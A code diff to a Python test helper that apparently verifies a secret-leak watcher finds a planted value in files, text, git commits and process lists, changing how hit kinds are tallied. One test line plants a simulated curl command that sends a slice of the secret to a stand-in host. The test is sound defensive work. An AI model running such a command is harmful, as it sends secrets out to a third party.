@@ -279,8 +279,8 @@ def _leaks(case: Case, watch: leaks.Watch, *, plant: bool) -> tuple[list[str], b
     world.github.commit("planted", {"x": value.encode().hex().encode()}, "Planted", parent=world.github.head("main"))
     watch.processes.add((f"curl\0https://x/?s={value[30:50]}".encode(), b""))
     hits = _search(case, watch, patterns)
-    kinds = ("file", "text", "git", "process")
-    return [], all(any(hit.startswith(kind) for hit in hits) for kind in kinds)
+    kinds = {hit.partition(" ")[0].rstrip(":") for hit in hits}
+    return [], kinds >= {"file", "text", "git", "process"}
 
 
 def _search(case: Case, watch: leaks.Watch, patterns: dict[bytes, str]) -> list[str]:
